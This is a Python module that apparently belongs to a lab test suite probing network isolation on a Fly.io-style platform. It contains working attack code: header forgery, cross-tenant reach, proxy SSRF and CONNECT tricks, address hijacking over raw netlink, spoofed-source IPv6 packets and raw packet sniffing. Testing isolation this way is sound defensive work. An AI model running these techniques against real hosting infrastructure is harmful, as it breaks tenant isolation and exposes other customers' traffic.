"""Addresses: of other Machines, of other organisations, of the host; forging one; listening to others."""

from __future__ import annotations

import contextlib
import os
import re
import socket
import struct
import time
from typing import TYPE_CHECKING

from .attempts import Attempt, signature

if TYPE_CHECKING:
    from collections.abc import Iterable, Iterator

    from .attempts import Targets

_SECONDS = 0.5
_LINKS = re.compile(r"([0-9]+): ([^:@]+)")
_NEW_ADDRESS, _NEW_ROUTE = 20, 24
_REQUEST = 0x1 | 0x4 | 0x200 | 0x400  # NLM_F_REQUEST, _ACK, _EXCL, _CREATE


def _asked(address: str, port: int, request: bytes, seconds: float = _SECONDS) -> str:
    """Return what a TCP server answers."""
    said = b""
    with contextlib.suppress(OSError), socket.create_connection((address, port), seconds) as connection:
        connection.settimeout(seconds)
        connection.sendall(request)
        while piece := connection.recv(4096):
            said += piece
    return said.decode("utf-8", "replace")


def _http(target: str, host: str, *lines: str) -> bytes:
    return "\r\n".join((f"GET {target} HTTP/1.1", f"Host: {host}", *lines, "Connection: close", "", "")).encode()


def reach_machines_over_ipv4(targets: Targets) -> str:
    """Reach a Machine as only Fly Proxy does, so that it believes a header that says who the client is."""
    found = []
    for name, machine in targets["machines"].items():
        request = _http("/", name, "Fly-Client-IP: fdaa::bad")
        said = _asked(machine["ipv4"], targets["port"], request)
        if targets["marker"][f"{name}-answer"] in said:
            found.append(f"{name} at {machine['ipv4']} says {said.rpartition(chr(10))[2]}")
    return "; ".join(found)


def reach_another_organisation(targets: Targets) -> str:
    """Reach the other network's Machine, Flycast address and nameserver."""
    marker, stranger = targets["marker"]["stranger-answer"], targets["machines"]["stranger"]
    ways = ((stranger["ipv6"], targets["port"]), (stranger["flycast"], 80), (stranger["flycast"], targets["port"]))
    found = [f"[{address}]:{port}" for address, port in ways if marker in _asked(address, port, _http("/", "stranger"))]
    return f"the other organisation's app answers at {' and '.join(found)}" if found else ""


def resolve_another_organisation(targets: Targets) -> str:
    """Ask every nameserver for the address of the other organisation's app."""
    packed = socket.inet_pton(socket.AF_INET6, targets["machines"]["stranger"]["ipv6"])
    for server in targets["nameservers"]:
        with contextlib.suppress(OSError), socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as asking:
            asking.settimeout(_SECONDS)
            asking.connect((server, 53))
            asking.send(b"\x12\x34\x01\0\0\1\0\0\0\0\0\0\x08stranger\x08internal\0\0\x1c\0\1")
            if packed in asking.recv(4096):
                return f"{server} says where stranger.internal is"
    return ""


def reach_the_hosts_loopback(targets: Targets) -> str:
    return _listening(targets, ("127.0.0.1", "::1", "localhost"))


def reach_the_host(targets: Targets) -> str:
    """Reach listeners of the host at its own addresses, and at every address that the lab has in this network."""
    return _listening(targets, (*targets["host_addresses"], *targets["lab_addresses"]))


def _listening(targets: Targets, addresses: Iterable[str]) -> str:
    for address in addresses:
        for port in targets["listeners"]:
            if targets["marker"]["listener"] in _asked(address, port, b"\n"):
                return f"the host's port {port} answers at {address}"
    return ""


def go_through_the_proxy(targets: Targets) -> str:
    """Have Fly Proxy fetch something of the host, or of the other organisation."""
    wanted = [f"127.0.0.1:{port}" for port in targets["listeners"]]
    others = ["stranger.flycast", "stranger.internal", f"[{targets['machines']['stranger']['ipv6']}]:{targets['port']}"]
    markers = targets["marker"]["listener"], targets["marker"]["stranger-answer"]
    for proxy in targets["proxies"]:
        for host in (*wanted, *others):
            for request in (
                _http(f"http://{host}/", host), _http("/", host), f"CONNECT {host} HTTP/1.1\r\n\r\n".encode()
            ):  # fmt: skip
                said = _asked(proxy, 80, request)
                if any(marker in said for marker in markers):
                    return f"the proxy at {proxy} fetched {host}: {request.partition(chr(13).encode())[0]!r}"
    return ""


def take_addresses(targets: Targets) -> str:
    """Give an own interface another Machine's address, the proxy's, and a route to everywhere."""
    victim = targets["machines"]["victim"]
    found, refused = [], OSError(1, "RTM_NEWADDR")
    for index, name in _interfaces():
        for address in ("172.16.0.2", victim["ipv4"], victim["ipv6"], targets["machines"]["stranger"]["ipv6"]):
            try:
                _add_address(index, address)
                found.append(f"{address} on {name}")
            except OSError as error:
                if error.errno == 17:  # EEXIST: allowed, and done before
                    found.append(f"{address} on {name}")
                refused = error
    if not found:
        raise refused
    return f"took {', '.join(found)}"


def _interfaces() -> Iterator[tuple[int, str]]:
    yield from socket.if_nameindex()


def _add_address(index: int, address: str) -> None:
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    packed = socket.inet_pton(family, address)
    attributes = b"".join(struct.pack("HH", 4 + len(packed), kind) + packed for kind in (1, 2))  # IFA_ADDRESS, _LOCAL
    body = struct.pack("BBBBI", family, len(packed) * 8, 0x02, 0, index) + attributes
    message = struct.pack("IHHII", 16 + len(body), _NEW_ADDRESS, _REQUEST, 1, 0) + body
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as netlink:
        netlink.send(message)
        error = -struct.unpack_from("i", netlink.recv(4096), 16)[0]
    if error:
        raise OSError(error, f"give an interface an address: {os.strerror(error)}")


def forge_a_source(targets: Targets) -> str:
    """Send a datagram that claims to come from another Machine; the test sees whether it arrived."""
    victim, claimed = targets["machines"]["victim"]["ipv6"], targets["forged_source"]
    payload = signature("forged-source").encode()
    length = 8 + len(payload)
    udp = struct.pack("!HHHH", 9, targets["port"], length, 0) + payload
    source, target = (socket.inet_pton(socket.AF_INET6, address) for address in (claimed, victim))
    checksum = _checksum(source + target + struct.pack("!IxxxB", length, 17) + udp)
    udp = udp[:6] + struct.pack("!H", checksum) + udp[8:]
    header = struct.pack("!IHBB", 6 << 28, length, 17, 64) + source + target
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for _ in range(3):
            raw.sendto(header + udp, (victim, 0))
    return ""


def _checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data + b'0' * (len(data) % 2)) // 2}H", data + b"\0" * (len(data) % 2)))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return (~total & 0xFFFF) or 0xFFFF


def listen_to_others(targets: Targets) -> str:
    """Take every packet that passes, and look for what another Machine says all the time."""
    marker = targets["marker"]["chatter"].encode()
    end = time.monotonic() + 1
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as packets:
        packets.settimeout(0.2)
        while time.monotonic() < end:
            with contextlib.suppress(OSError):
                if marker in packets.recv(65536):
                    return "heard a packet between others"
    return ""


ATTEMPTS = (
    Attempt("ipv4-of-machines", "reach Machines over IPv4 and forge Fly-Client-IP", reach_machines_over_ipv4),
    Attempt("other-organisation", "reach another organisation's addresses", reach_another_organisation),
    Attempt("other-names", "resolve another organisation's names", resolve_another_organisation),
    Attempt("loopback", "reach listeners on the host's loopback", reach_the_hosts_loopback),
    Attempt("host-ports", "reach the host's ports at every address that is known", reach_the_host),
    Attempt("proxy", "have the proxy fetch from the host or another organisation", go_through_the_proxy, seconds=120),
    Attempt("forged-source", "send from another Machine's 6PN address", forge_a_source),
    Attempt("sniffing", "hear what others say to each other", listen_to_others),
    Attempt("addresses", "take another Machine's address, or the proxy's", take_addresses),
)  # fmt: skip
